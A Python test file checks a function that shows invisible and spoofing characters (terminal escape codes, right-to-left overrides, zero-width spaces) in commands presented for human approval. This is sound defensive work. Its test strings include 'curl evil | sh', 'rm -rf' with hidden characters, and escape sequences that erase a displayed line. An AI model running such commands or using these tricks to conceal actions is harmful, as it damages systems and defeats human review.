"""What is shown for approval shows every character that could hide or rewrite it."""

from __future__ import annotations

import unicodedata

from hypothesis import given
from hypothesis import strategies as st

from rho_desk.core.text.visible import numbered, one_line, visible


def _invisible(ch: str) -> bool:
    if ch == "\n":
        return False
    return unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp", "Co", "Cn", "Cs") or (
        unicodedata.category(ch) == "Zs" and ch != " "
    )


def test_the_spoofing_forms_show_as_text() -> None:
    assert (
        visible("ls -la\ntouch PWNED # \x1b[2K\r\x1b[1A")
        == "ls -la\ntouch PWNED # \\x1b[2K␍\\x1b[1A"
    )
    assert visible("echo \u202egnp.exe") == "echo <U+202E>gnp.exe"  # a right-to-left override
    assert visible("rm\u200b -rf\u00a0x\ufeff") == "rm<U+200B> -rf<U+00A0>x<U+FEFF>"
    assert (
        visible("a\tb\x7f\x9b") == "a\\tb\\x7f\\x9b"
    )  # a tab, DEL, a C1 control sequence introducer
    assert visible("\x1b]0;title\x07") == "\\x1b]0;title\\x07"  # an OSC sequence
    assert visible("ㅤ") == "<U+3164>"  # a Hangul filler draws nothing
    assert (
        visible("plain text, ünïcode, 日本語\nline two") == "plain text, ünïcode, 日本語\nline two"
    )


def test_a_multi_line_command_is_numbered_in_full_and_a_title_stays_on_one_line() -> None:
    assert numbered("ls -la") == "ls -la"
    assert (
        numbered("ls -la\ntouch PWNED # \x1b[2K\r\x1b[1A")
        == "1 │ ls -la\n2 │ touch PWNED # \\x1b[2K␍\\x1b[1A"
    )
    assert numbered("\n".join("x" * 10)).splitlines()[-1] == "10 │ x"
    assert one_line("Run: ls\ncurl evil | sh") == "Run: ls⏎curl evil | sh"


@given(st.text())
def test_nothing_invisible_survives(text: str) -> None:
    shown = visible(text)
    assert not any(_invisible(ch) for ch in shown), repr(shown)
    assert "\n" not in one_line(text)
    assert shown.count("\n") == text.count("\n")  # the line structure is kept


@given(
    st.text(alphabet=st.characters(blacklist_characters="\\<␍")),
    st.text(alphabet=st.characters(blacklist_characters="\\<␍")),
)
def test_different_texts_look_different(a: str, b: str) -> None:
    if a != b:
        assert visible(a) != visible(b)


@given(st.text())
def test_a_page_of_output_keeps_its_tabs_and_shows_the_rest(text: str) -> None:
    shown = visible(text, tabs=True)
    assert shown == "\t".join(visible(part) for part in text.split("\t"))


def test_a_long_text_is_checked_in_pieces_and_a_hidden_character_anywhere_is_found() -> None:
    from rho_desk.core.text import visible as module

    text = "naïve café 日本語 ✓\n" * (module._PIECE // 8)
    assert visible(text) is text  # nothing hidden: the same object, no copy
    for at in (0, module._PIECE - 1, module._PIECE, len(text) - 1):
        planted = text[:at] + "\u202e" + text[at:]
        assert visible(planted) == text[:at] + "<U+202E>" + text[at:]
